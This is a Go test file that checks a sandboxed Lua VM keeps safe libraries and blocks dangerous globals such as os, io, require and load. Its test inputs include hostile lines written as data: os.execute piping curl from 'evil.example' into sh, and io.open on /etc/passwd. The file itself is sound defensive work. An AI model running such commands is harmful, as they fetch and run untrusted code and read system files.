package config

import (
	"strings"
	"testing"

	lua "github.com/yuin/gopher-lua"
)

func TestSandboxLuaVM(t *testing.T) {
	tests := []struct {
		name   string
		code   string
		errMsg string // empty when the code must succeed
	}{
		{"string library", `x = string.format("%s-%s", "5c90dfd2", "34c22ccb")`, ""},
		{"table library", `t = {"ffmpeg"}; table.insert(t, "ffprobe")`, ""},
		{"math library", `x = math.floor(7.8)`, ""},
		{"pairs", `for k, v in pairs({a = 1}) do end`, ""},

		{"os.execute", `os.execute("curl evil.example | sh")`, "attempt to index"},
		{"os.getenv", `x = os.getenv("HOME")`, "attempt to index"},
		{"io.open", `f = io.open("/etc/passwd")`, "attempt to index"},
		{"require", `http = require("socket.http")`, "attempt to call"},
		{"dofile", `dofile("/tmp/payload.lua")`, "attempt to call"},
		{"loadfile", `f = loadfile("/tmp/payload.lua")`, "attempt to call"},
		{"load", `f = load("return 1")`, "attempt to call"},
		{"loadstring", `f = loadstring("return 1")`, "attempt to call"},
		{"debug", `debug.getinfo(1)`, "attempt to index"},
		{"package", `package.path = "/tmp/?.lua"`, "attempt to index"},
		{"setmetatable", `setmetatable({}, {})`, "attempt to call"},
		{"rawset", `rawset(_G, "x", 1)`, "attempt to call"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			L := newSandboxedVM()
			defer L.Close()

			err := L.DoString(tt.code)
			if tt.errMsg == "" {
				if err != nil {
					t.Errorf("DoString(%q) error = %v, want nil", tt.code, err)
				}
				return
			}
			if err == nil {
				t.Fatalf("DoString(%q) succeeded, want error containing %q", tt.code, tt.errMsg)
			}
			if !strings.Contains(err.Error(), tt.errMsg) {
				t.Errorf("DoString(%q) error = %v, want substring %q", tt.code, err, tt.errMsg)
			}
		})
	}
}

func TestSandboxLuaVM_StringHelpers(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	code := `
		base = "https://mirror.example/ffmpeg"
		result = string.format("%s/%s.zip", base, string.lower("MACOS"))
	`
	if err := L.DoString(code); err != nil {
		t.Fatalf("DoString() failed: %v", err)
	}

	if got := L.GetGlobal("result").String(); got != "https://mirror.example/ffmpeg/macos.zip" {
		t.Errorf("result = %s", got)
	}
}

func TestNewSandboxedVM(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	for _, name := range []string{"os", "io", "debug", "require"} {
		if v := L.GetGlobal(name); v.Type() != lua.LTNil {
			t.Errorf("global %s = %v, want nil", name, v.Type())
		}
	}
	if v := L.GetGlobal("string"); v.Type() != lua.LTTable {
		t.Errorf("global string = %v, want table", v.Type())
	}
}
